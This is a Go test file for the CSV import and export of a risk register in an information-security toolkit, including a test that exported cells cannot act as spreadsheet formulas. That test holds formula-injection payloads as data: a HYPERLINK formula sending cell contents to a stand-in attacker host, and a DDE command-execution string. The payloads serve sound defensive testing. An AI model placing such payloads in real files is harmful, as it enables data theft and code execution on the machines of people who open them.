package risk

import (
	"math"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/ismskit/ismskit"
	"github.com/ismskit/ismskit/internal/table"
	"github.com/ismskit/ismskit/iso27002"
)

// csvFields clears the fields that have no CSV column.
func csvFields(rs []Risk) []Risk {
	out := make([]Risk, len(rs))
	for i, r := range rs {
		r.Treatment.Plan = nil
		r.Approvals = nil
		r.Acceptances = nil
		r.Extensions = nil
		out[i] = r
	}
	return out
}

func TestCSVRoundTripSample(t *testing.T) {
	reg := loadSample(t)
	data, err := EncodeCSV(reg.Risks)
	require.NoError(t, err)
	golden(t, "testdata/risks.golden.csv", data)
	back, err := DecodeCSV(data)
	require.NoError(t, err)
	assert.Equal(t, csvFields(reg.Risks), back)
	again, err := EncodeCSV(back)
	require.NoError(t, err)
	assert.Equal(t, string(data), string(again))
}

func TestCSVRoundTripEdgeCases(t *testing.T) {
	rs := []Risk{{
		ID: "R,1", Title: "Quote \" and, comma", Description: "line one\nline two", Owner: " padded owner ",
		Assets:     []string{"a b", "c"},
		Properties: []Property{Availability, Confidentiality},
		Likelihood: 3, Impact: 0,
		PropertyImpacts: []PropertyImpact{{Property: Availability, Impact: 4}, {Property: Confidentiality, Impact: 2}},
		Controls: []AppliedControl{
			{Control: iso27002.MustParse("A.5.1"), Status: Implemented, LikelihoodEffect: 10},
			{Control: iso27002.MustParse("A.9.4.1"), Status: Planned, ImpactEffect: 20},
			{Control: iso27002.MustParse("acme:k=v;x"), Status: Planned, LikelihoodEffect: 5, ImpactEffect: 5},
		},
		Current:   &Estimate{Likelihood: 0, Impact: 0},
		Residual:  &Estimate{Likelihood: 1, Impact: 2},
		Treatment: Treatment{Option: Share, SharedWith: "Insurer", Rationale: "cheaper"},
		Scoring:   &ScoreRecord{Method: "cvss", Version: "3.1", Vector: "CVSS:3.1/AV:N", Score: 9.8, Severity: "critical"},
	}, {ID: "R-2", Scoring: &ScoreRecord{}}}
	data, err := EncodeCSV(rs)
	require.NoError(t, err)
	back, err := DecodeCSV(data)
	require.NoError(t, err)
	assert.Equal(t, rs, back)
}

func TestCSVColumnsSubsetAndOrder(t *testing.T) {
	in := "\ufefflikelihood,id,owner,assets\n3,R-1,cto, db ; web\n"
	rs, err := DecodeCSV([]byte(in))
	require.NoError(t, err)
	assert.Equal(t, []Risk{{ID: "R-1", Owner: "cto", Likelihood: 3, Assets: []string{"db", "web"}}}, rs)
}

func TestEncodeCSVErrors(t *testing.T) {
	tests := []struct {
		name string
		risk Risk
		path string
	}{
		{"separator in list", Risk{ID: "r", Assets: []string{"a;b"}}, "risks[0].assets[0]"},
		{"empty list item", Risk{ID: "r", Threats: []string{""}}, "risks[0].threats[0]"},
		{"padded list item", Risk{ID: "r", Vulnerabilities: []string{" v"}}, "risks[0].vulnerabilities[0]"},
		{"bad property", Risk{ID: "r", Properties: []Property{"x"}}, "risks[0].properties[0]"},
		{"bad property impact", Risk{ID: "r", PropertyImpacts: []PropertyImpact{{Property: "x"}}}, "risks[0].propertyImpacts[0].property"},
		{"zero control", Risk{ID: "r", Controls: []AppliedControl{{Status: Planned}}}, "risks[0].controls[0].control"},
		{"bad status", Risk{ID: "r", Controls: []AppliedControl{{Control: iso27002.MustParse("5.1")}}}, "risks[0].controls[0].status"},
		{"bad option", Risk{ID: "r", Treatment: Treatment{Option: "x"}}, "risks[0].treatment.option"},
		{"score", Risk{ID: "r", Scoring: &ScoreRecord{Score: posInf()}}, "risks[0].scoring.score"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			out, err := EncodeCSV([]Risk{tt.risk})
			assert.Nil(t, out)
			requireFieldErr(t, err, tt.path, ismskit.ErrNotEncodable)
		})
	}
}

func posInf() float64 { var z float64; return 1 / z }

func TestDecodeCSVErrors(t *testing.T) {
	tests := []struct {
		name string
		in   string
		path string
		kind error
	}{
		{"empty", "", "", ismskit.ErrSyntax},
		{"unknown column", "id,likelyhood\nr,3\n", "header[1]", ismskit.ErrSyntax},
		{"repeated column", "id,owner,owner\nr,a,b\n", "header[2]", ismskit.ErrSyntax},
		{"no id column", "owner\na\n", "header", ismskit.ErrSyntax},
		{"field count", "id,owner\nr\n", "rows[0]", ismskit.ErrSyntax},
		{"number", "id,likelihood\nr,high\n", "rows[0].likelihood", ismskit.ErrSyntax},
		{"property", "id,properties\nr,privacy\n", "rows[0].properties[0]", ismskit.ErrUnknownValue},
		{"empty item", "id,assets\nr,a;;b\n", "rows[0].assets[1]", ismskit.ErrSyntax},
		{"property impact", "id,propertyImpacts\nr,integrity:3\n", "rows[0].propertyImpacts[0]", ismskit.ErrSyntax},
		{"control syntax", "id,controls\nr,5.1\n", "rows[0].controls[0]", ismskit.ErrSyntax},
		{"control fields", "id,controls\nr,5.1=planned:1\n", "rows[0].controls[0]", ismskit.ErrSyntax},
		{"control id", "id,controls\nr,5.99=planned:1:1\n", "rows[0].controls[0]", ismskit.ErrUnknownControl},
		{"control status", "id,controls\nr,5.1=done:1:1\n", "rows[0].controls[0]", ismskit.ErrUnknownValue},
		{"control effect", "id,controls\nr,5.1=planned:x:1\n", "rows[0].controls[0]", ismskit.ErrSyntax},
		{"treatment", "id,treatment\nr,transfer\n", "rows[0].treatment", ismskit.ErrUnknownValue},
		{"score", "id,scoringScore\nr,NaN\n", "rows[0].scoringScore", ismskit.ErrSyntax},
		{"quote", "id\n\"r\n", "", ismskit.ErrSyntax},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			rs, err := DecodeCSV([]byte(tt.in))
			assert.Nil(t, rs)
			requireFieldErr(t, err, tt.path, tt.kind)
		})
	}
}

func TestDecodeCSVReportsEveryRow(t *testing.T) {
	_, err := DecodeCSV([]byte("id,likelihood,treatment\nr1,x,modify\nr2,2,keep\nr3,3,retain\n"))
	assert.Len(t, fieldErrors(err), 2)
	assert.True(t, strings.Contains(err.Error(), "rows[1].treatment"))
}

func FuzzDecodeCSV(f *testing.F) {
	reg := testRegister()
	seed, err := EncodeCSV(reg.Risks)
	if err != nil {
		f.Fatal(err)
	}
	f.Add(seed)
	f.Add([]byte("id,controls,propertyImpacts\nr,acme:a=b=planned:1:2 5.1=implemented:0:0,integrity=2\n"))
	f.Add([]byte("id,description\nr,\"a\r\nb\"\n"))
	f.Add([]byte("id,assets,scoringScore\nr, a ;b,1e3\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		rs, err := DecodeCSV(data)
		if err != nil {
			return
		}
		out, err := EncodeCSV(rs)
		if err != nil {
			// only values that CSV cannot carry may be refused, and
			// those never come out of DecodeCSV
			t.Fatalf("risks read from CSV cannot be written back: %v", err)
		}
		back, err := DecodeCSV(out)
		if err != nil {
			t.Fatalf("own output unreadable: %v\n%q", err, out)
		}
		require.Equal(t, rs, back)
	})
}

func TestCSVColumnsIsACopy(t *testing.T) {
	c := CSVColumns()
	assert.Equal(t, "id", c[0])
	c[0] = "x"
	assert.Equal(t, "id", CSVColumns()[0])
}

// CSV formula injection (issue 20): no cell of EncodeCSV's output begins
// with a character that makes a spreadsheet run it, and DecodeCSV still
// reads the library's own output back exactly.
func TestCSVFormulaInjection(t *testing.T) {
	rs := []Risk{{
		ID:           "=1+1",
		Title:        `=HYPERLINK("http://evil.example/?x="&A1,"click")`,
		Description:  "+cmd|' /C calc'!A0",
		Owner:        "@SUM(A1:A9)",
		BusinessUnit: "\t=1",
		Assets:       []string{"-x", "y"},
		Likelihood:   -1,
		Treatment:    Treatment{Option: Share, SharedWith: "\r=2", Rationale: "'quoted'"},
		Scoring:      &ScoreRecord{Method: "'=x", Version: "''", Vector: "\x00=3", Score: -2.5, Severity: "-"},
	}, {ID: "R-2", Title: "plain", Owner: "'o"}}
	data, err := EncodeCSV(rs)
	require.NoError(t, err)
	requireNoLiveFormula(t, data)
	assert.Contains(t, string(data), `'=1+1,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`)
	back, err := DecodeCSV(data)
	require.NoError(t, err)
	assert.Equal(t, rs, back)

	// a hand-written cell with an apostrophe before ordinary text is kept
	got, err := DecodeCSV([]byte("id,title\nR-1,'quoted'\n"))
	require.NoError(t, err)
	assert.Equal(t, "'quoted'", got[0].Title)
}

// requireNoLiveFormula fails if a data cell of the CSV begins with a
// character that makes a spreadsheet read it as a formula.
func requireNoLiveFormula(t *testing.T, data []byte) {
	t.Helper()
	recs, err := table.ReadCSV(data)
	require.NoError(t, err)
	for i, rec := range recs {
		for j, c := range rec {
			if c != "" && strings.ContainsRune("=+-@\t\r\x00", rune(c[0])) {
				t.Fatalf("record %d, cell %d begins with %q: %q", i, j, c[0], c)
			}
		}
	}
}

// FuzzEncodeCSV writes risks whose text fields hold any string, checks
// that no cell is a live formula, and reads them back.
func FuzzEncodeCSV(f *testing.F) {
	f.Add("R-1", "title", "owner", "desc", 3, 9.5)
	f.Add("=1", "+2", "-3", "@4", -1, -1.5)
	f.Add("'", "''=", "\t", "\r\n", 0, 0.0)
	f.Fuzz(func(t *testing.T, id, title, owner, desc string, likelihood int, score float64) {
		if math.IsNaN(score) || math.IsInf(score, 0) {
			return
		}
		rs := []Risk{{ID: id, Title: title, Owner: owner, Description: desc, BusinessUnit: title,
			Likelihood: likelihood, Treatment: Treatment{Rationale: desc, SharedWith: owner},
			Scoring: &ScoreRecord{Method: id, Version: owner, Vector: title, Score: score, Severity: desc}}}
		data, err := EncodeCSV(rs)
		require.NoError(t, err)
		requireNoLiveFormula(t, data)
		back, err := DecodeCSV(data)
		require.NoError(t, err, "%q", data)
		require.Equal(t, rs, back)
	})
}
